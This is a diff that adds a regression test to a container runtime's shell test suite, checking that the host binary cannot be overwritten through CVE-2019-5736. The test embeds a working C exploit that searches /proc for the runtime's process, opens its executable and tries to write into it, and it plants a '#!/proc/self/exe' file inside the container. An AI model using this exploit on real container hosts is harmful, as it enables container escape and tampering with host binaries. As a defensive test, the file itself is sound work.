@@ -150,4 +150,69 @@ t_init_binary_cannot_be_overwritten() {
     "$TDG" rm -f guarded >/dev/null
 }
 
+# CVE-2019-5736, tried on tdg exec: the container turns a program of its own
+# into "#!/proc/self/exe"; `tdg exec` running it makes the kernel run tdg's
+# binary inside the container, where a waiting process grabs it by
+# /proc/PID/exe and, once no process runs it, writes into it. exec is
+# started from a copy of tdg that nothing else runs (as after a rebuild),
+# so only the sealed in-memory copy stands between the attack and the file.
+t_exec_binary_cannot_be_overwritten_cve_2019_5736() {
+    cat >"$TDG_ROOT/grab.c" <<'EOF'
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <string.h>
+#include <time.h>
+#include <unistd.h>
+static int before(time_t end) { return time(NULL) < end; }
+int main(void)
+{
+	char path[64], link[256];
+	int fd = -1;
+	time_t end = time(NULL) + 8;
+	while (fd < 0 && before(end)) {
+		DIR *d = opendir("/proc");
+		struct dirent *e;
+		while (d && fd < 0 && (e = readdir(d))) {
+			snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
+			ssize_t n = readlink(path, link, sizeof link - 1);
+			if (n > 0 && (link[n] = 0, strstr(link, "tdg")))
+				fd = open(path, O_PATH);
+		}
+		if (d) closedir(d);
+	}
+	if (fd < 0) { puts("nothing caught"); return 1; }
+	printf("caught %s\n", link);
+	fflush(stdout);
+	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
+	for (end = time(NULL) + 3; before(end); usleep(1000)) {
+		int w = open(path, O_WRONLY | O_APPEND);
+		if (w >= 0 && write(w, "PWNED\n", 6) == 6) { puts("wrote"); return 0; }
+		if (w >= 0) close(w);
+	}
+	puts("could not write");
+	return 2;
+}
+EOF
+    cc -static -O2 -o "$TDG_ROOT/grab" "$TDG_ROOT/grab.c" || fail "cannot build the attacker"
+    cp "$TDG" "$TDG_ROOT/tdg-copy"
+    local sum
+    sum=$(sha256sum <"$TDG_ROOT/tdg-copy")
+    tdg_run --net none -d --name victim -v "$TDG_ROOT/grab:/grab:ro" /bin/sh -c \
+        'printf "#!/proc/self/exe\n" >/tmp/evil; chmod +x /tmp/evil; /grab; sleep 30' >/dev/null
+    local id log i
+    id=$("$TDG" inspect victim | jq -r .id)
+    log="$TDG_ROOT/containers/$id/container.log"
+    wait_for "$TDG" exec victim /usr/bin/test -x /tmp/evil 2>/dev/null
+    for ((i = 0; i < 50; i++)); do
+        "$TDG_ROOT/tdg-copy" exec victim /tmp/evil >/dev/null 2>&1 || true
+        grep -q caught "$log" && break
+    done
+    wait_for grep -qE "wrote|could not" "$log"
+    expect_contains "$(cat "$log")" "caught /memfd:tdg" "what the container caught"
+    expect_eq "$(sha256sum <"$TDG_ROOT/tdg-copy")" "$sum" "the host's tdg binary (the copy exec ran from)"
+    "$TDG" rm -f victim >/dev/null
+}
+
 run_tests "$@"
